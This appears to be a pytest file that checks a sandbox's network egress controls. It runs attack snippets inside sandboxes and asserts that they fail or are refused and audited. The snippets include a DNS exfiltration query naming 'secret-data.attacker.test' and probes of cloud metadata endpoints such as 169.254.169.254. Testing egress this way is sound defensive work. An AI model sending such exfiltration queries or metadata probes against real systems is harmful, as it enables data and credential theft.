"""Does anything leave a sandbox except by its egress door? Attacks E01 to E08, E12 and E17."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from hub_config.demo.upstream import GREETING, INDEX_HOST, MIRROR_HOST, PACKAGE
from tests.support.backend_choice import ON_GVISOR
from tests.support.house import House
from tests.support.sinks import TCP_PORTS, UDP_PORTS, Sinks, open_sinks, question

Control = Callable[[str, bool], None]
Seen = dict[str, dict[str, Any]]

PROXY = """
def through_proxy(request, port=3128, whole=False):
    with socket.create_connection(("127.0.0.1", port), 10) as connection:
        connection.settimeout(10)
        connection.sendall(request)
        answer = b""
        while whole or b"\\r\\n\\r\\n" not in answer:
            block = connection.recv(65536)
            if not block:
                break
            answer += block
        return answer.decode("latin-1")

def connect_to(target):
    return through_proxy(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())

def get(url, host):
    return through_proxy(f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode(), whole=True)
"""


@pytest.fixture(scope="module")
def sinks() -> Iterator[Sinks]:
    """Listeners of the host, outside every sandbox."""
    with open_sinks() as opened:
        yield opened


def _values(seen: Seen) -> dict[str, str]:
    return {name: str(found.get("value", found.get("text"))) for name, found in seen.items()}


@pytest.mark.proves("E01")
def test_e01_tcp_to_a_public_address_is_unreachable(house: House, sinks: Sinks, control: Control) -> None:
    """A TCP connection to a public address fails at once, and nothing arrives there."""
    seen = house.attack(
        "alice",
        f"""
own = socket.create_server(("127.0.0.1", 0))
attempt("own loopback", lambda: socket.create_connection(own.getsockname(), 3).close())
for port in {TCP_PORTS}:
    attempt(f"tcp {{port}}", lambda: socket.create_connection(("{sinks.address}", port), 5).close())
""",
    )
    control("a connection on the sandbox's own loopback", seen.pop("own loopback")["ok"])
    # A kernel without a route says so in its own words.
    assert {found["errno"] for found in seen.values()} == {"EHOSTUNREACH" if ON_GVISOR else "ENETUNREACH"}
    assert max(found["seconds"] for found in seen.values()) < 1
    assert sinks.heard == []
    control("the host reaches every sink", sinks.from_outside() == [])
    sinks.heard.clear()


@pytest.mark.proves("E02")
def test_e02_datagrams_icmp_and_sctp_do_not_leave(house: House, sinks: Sinks, control: Control) -> None:
    """UDP, ICMP echo and SCTP to a public address fail, and nothing arrives there."""
    seen = house.attack(
        "alice",
        f"""
def send(kind, protocol, address):
    with socket.socket(socket.AF_INET, kind, protocol) as sender:
        sender.settimeout(3)
        sender.sendto(b"attack", address)

def sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sender:
        sender.settimeout(3)
        sender.connect(("{sinks.address}", 5000))

own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own.bind(("127.0.0.1", 0))
attempt("own loopback", lambda: send(socket.SOCK_DGRAM, 0, own.getsockname()))
for port in {UDP_PORTS}:
    attempt(f"udp {{port}}", lambda: send(socket.SOCK_DGRAM, 0, ("{sinks.address}", port)))
attempt("icmp datagram", lambda: send(socket.SOCK_DGRAM, 1, ("{sinks.address}", 0)))
attempt("icmp raw", lambda: send(socket.SOCK_RAW, 1, ("{sinks.address}", 0)))
attempt("sctp", sctp)
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
""",
    )
    control("a datagram on the sandbox's own loopback", seen.pop("own loopback")["ok"])
    assert [name for name, found in seen.items() if found["ok"]] == []
    assert sinks.heard == []
    control("the host reaches every sink", sinks.from_outside() == [])
    sinks.heard.clear()


@pytest.mark.proves("E03")
def test_e03_ipv6_leads_nowhere(house: House, control: Control) -> None:
    """Public, unique local and link-local IPv6 addresses are unreachable and no interface but lo exists."""
    seen = house.attack(
        "alice",
        """
def dial(address, scope=0):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect((address, 80, 0, scope))

own = socket.create_server(("127.0.0.1", 0))
attempt("own loopback", lambda: socket.create_connection(own.getsockname(), 3).close())
attempt("public", lambda: dial("2001:db8::1"))
attempt("unique local", lambda: dial("fd00::1"))
attempt("link local", lambda: dial("fe80::1", 1))
attempt("link local eth0", lambda: dial("fe80::1", socket.if_nametoindex("eth0")))
attempt("interfaces", lambda: [name for _, name in socket.if_nameindex()])
""",
    )
    control("a connection on the sandbox's own loopback", seen.pop("own loopback")["ok"])
    assert seen.pop("interfaces")["value"] == ["lo"]
    assert [name for name, found in seen.items() if found["ok"]] == []


@pytest.mark.proves("E04")
def test_e04_no_name_reaches_a_resolver(house: House, sinks: Sinks, control: Control) -> None:
    """A secret put into a name reaches no resolver, by the library or by hand, over UDP or TCP."""
    query = question("secret-data.attacker.test").hex()
    seen = house.attack(
        "alice",
        f"""
query = bytes.fromhex("{query}")

def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(2)
        sender.sendto(query, (server, 53))
        return len(sender.recvfrom(512)[0])

def ask_by_tcp(server):
    with socket.create_connection((server, 53), 2) as connection:
        connection.sendall(len(query).to_bytes(2, "big") + query)
        return len(connection.recv(512))

attempt("localhost", lambda: socket.getaddrinfo("localhost", 80)[0][4][0])
attempt("library", lambda: socket.getaddrinfo("secret-data.attacker.test", 80))
for server in ("{sinks.address}", "127.0.0.11", "127.0.0.53", "8.8.8.8", "10.96.0.10"):
    attempt(f"udp {{server}}", lambda: ask(server))
    attempt(f"tcp {{server}}", lambda: ask_by_tcp(server))
attempt("doh", lambda: socket.create_connection(("{sinks.address}", 443), 2).close())
""",
    )
    control("localhost resolves inside", seen.pop("localhost")["ok"])
    assert [name for name, found in seen.items() if found["ok"]] == []
    assert sinks.heard == []
    control("the host's question is heard", sinks.from_outside() == [])
    sinks.heard.clear()


@pytest.mark.proves("E05")
def test_e05_metadata_services_are_blocked(house: House, control: Control) -> None:
    """Addresses of cloud metadata services are unreachable directly and refused by the proxy."""
    seen = house.attack(
        "alice",
        PROXY
        + f"""
addresses = ("169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200")
attempt("allowed", lambda: get("http://{MIRROR_HOST}/", "{MIRROR_HOST}"))
for address in addresses:
    attempt(f"direct {{address}}", lambda: socket.create_connection((address, 80), 3).close())
    attempt(f"proxy {{address}}", lambda: get(f"http://{{address}}/latest/meta-data/", address))
    attempt(f"connect {{address}}", lambda: connect_to(f"{{address}}:80"))
attempt("direct v6", lambda: socket.create_connection(("fd00:ec2::254", 80), 3).close())
attempt("proxy v6", lambda: get("http://[fd00:ec2::254]/latest/meta-data/", "[fd00:ec2::254]"))
attempt("proxy name", lambda: get("http://metadata.google.internal/", "metadata.google.internal"))
""",
    )
    control("an allowed host answers by proxy", " 200 " in _values(seen)["allowed"][:14])
    del seen["allowed"]
    assert [name for name, found in seen.items() if name.startswith("direct") and found["ok"]] == []
    by_proxy = {name: text for name, text in _values(seen).items() if not name.startswith("direct")}
    assert [name for name, text in by_proxy.items() if " 403 " not in text[:14]] == []


@pytest.mark.proves("E06")
def test_e06_services_of_the_host_are_out_of_reach(house: House, sinks: Sinks, control: Control) -> None:
    """The host's addresses, its loopback services and its programs' ports cannot be reached."""
    site = house.site
    ports = [site.hub_port, site.proxy_api_port, site.front_port, site.public_port, site.control_port]
    seen = house.attack(
        "alice",
        PROXY
        + f"""
attempt("allowed", lambda: get("http://{MIRROR_HOST}/", "{MIRROR_HOST}"))
for address in ("{sinks.address}", "172.17.0.1", "10.0.2.2", "192.168.122.1"):
    attempt(f"direct {{address}}", lambda: socket.create_connection((address, 80), 3).close())
    attempt(f"proxy {{address}}", lambda: get(f"http://{{address}}/", address))
for port in {ports}:
    attempt(f"direct loopback {{port}}", lambda: socket.create_connection(("127.0.0.1", port), 3).close())
    attempt(f"proxy loopback {{port}}", lambda: get(f"http://127.0.0.1:{{port}}/", f"127.0.0.1:{{port}}"))
    attempt(f"proxy localhost {{port}}", lambda: connect_to(f"localhost:{{port}}"))
""",
    )
    control("an allowed host answers by proxy", " 200 " in _values(seen)["allowed"][:14])
    del seen["allowed"]
    assert [name for name, found in seen.items() if name.startswith("direct") and found["ok"]] == []
    by_proxy = {name: text for name, text in _values(seen).items() if name.startswith("proxy")}
    assert [name for name, text in by_proxy.items() if " 403 " not in text[:14]] == []
    assert sinks.heard == []
    control("the host reaches every sink", sinks.from_outside() == [])
    sinks.heard.clear()


@pytest.mark.proves("E07")
def test_e07_allowed_hosts_work_by_both_verbs_and_are_audited(house: House, control: Control) -> None:
    """An allowed host answers absolute-form GET, CONNECT and pip, and the audit names the user."""
    house.fresh("alice")
    output = house.run(
        "alice",
        f"%pip download --no-deps --disable-pip-version-check --index-url http://{INDEX_HOST}/simple "
        f"--trusted-host {INDEX_HOST} -d /tmp/wheels {PACKAGE}",
        120,
    )
    seen = house.attack(
        "alice",
        PROXY
        + f"""
attempt("get", lambda: get("http://{MIRROR_HOST}/", "{MIRROR_HOST}"))
attempt("connect", lambda: connect_to("{MIRROR_HOST}:80"))
""",
    )
    control("absolute-form GET", " 200 " in _values(seen)["get"][:14] and GREETING in _values(seen)["get"])
    control("CONNECT", " 200 " in _values(seen)["connect"][:14])
    control("pip download", "Saved" in output.stdout or "Successfully downloaded" in output.stdout)
    allowed = house.events("egress.allowed", "alice")
    assert {MIRROR_HOST, INDEX_HOST} <= {str(event.detail.get("host")) for event in allowed}


@pytest.mark.proves("E08")
def test_e08_denied_hosts_are_refused_with_a_reason_and_audited(house: House, control: Control) -> None:
    """A host that no rule allows gets 403 with a sentence and a code by both verbs, and an audit line."""
    house.fresh("alice")
    seen = house.attack(
        "alice",
        PROXY
        + f"""
attempt("allowed", lambda: get("http://{MIRROR_HOST}/", "{MIRROR_HOST}"))
attempt("connect", lambda: connect_to("denied-e08.example:443"))
attempt("get", lambda: get("http://denied-e08.example/", "denied-e08.example"))
""",
    )
    control("an allowed host answers", " 200 " in _values(seen)["allowed"][:14])
    for name in ("connect", "get"):
        head = _values(seen)[name]
        assert " 403 Blocked by sandbox: denied-e08.example" in head.splitlines()[0]
        assert "x-sandbox-deny: egress." in head.lower()
        assert seen[name]["seconds"] < 1
    denied = [
        e for e in house.events("egress.denied", "alice") if e.detail.get("host") == "denied-e08.example"
    ]
    assert {int(str(event.detail["port"])) for event in denied} == {80, 443}
    assert {event.sandbox for event in denied} == {house.server("alice")}


@pytest.mark.proves("E12")
def test_e12_an_allowed_host_on_another_port_is_refused(house: House, control: Control) -> None:
    """A rule for port 80 opens no other port of the same host."""
    seen = house.attack(
        "alice",
        PROXY
        + f"""
attempt("allowed", lambda: connect_to("{MIRROR_HOST}:80"))
for port in (22, 25, 443, 3306, 8080):
    attempt(f"connect {{port}}", lambda: connect_to(f"{MIRROR_HOST}:{{port}}"))
    attempt(f"get {{port}}", lambda: get(f"http://{MIRROR_HOST}:{{port}}/", f"{MIRROR_HOST}:{{port}}"))
""",
    )
    control("the allowed port", " 200 " in _values(seen).pop("allowed")[:14])
    del seen["allowed"]
    assert [name for name, text in _values(seen).items() if " 403 " not in text[:14]] == []


@pytest.mark.proves("E17")
def test_e17_ignoring_the_proxy_settings_opens_no_path(house: House, control: Control) -> None:
    """Without proxy variables, or with NO_PROXY=*, even an allowed host cannot be reached."""
    seen = house.attack(
        "alice",
        f"""
import urllib.request
url = "http://{MIRROR_HOST}/"
attempt("allowed", lambda: urllib.request.urlopen(url, timeout=10).read().decode())
bare = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
attempt("no proxy handler", lambda: bare.open(url, timeout=5).read())
code = f"import urllib.request as u; print(u.urlopen({{url!r}}, timeout=5).read())"
for name, change in (("unset", {{}}), ("no_proxy", {{"NO_PROXY": "*", "no_proxy": "*"}})):
    keep = {{k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")}}
    changed = {{**keep, **change}}
    attempt(name, lambda: subprocess.run([sys.executable, "-c", code], env=changed, check=True,
                                         capture_output=True, text=True).stdout)
""",
    )
    control("the same URL by proxy", seen.pop("allowed").get("value") == GREETING)
    assert [name for name, found in seen.items() if found["ok"]] == []
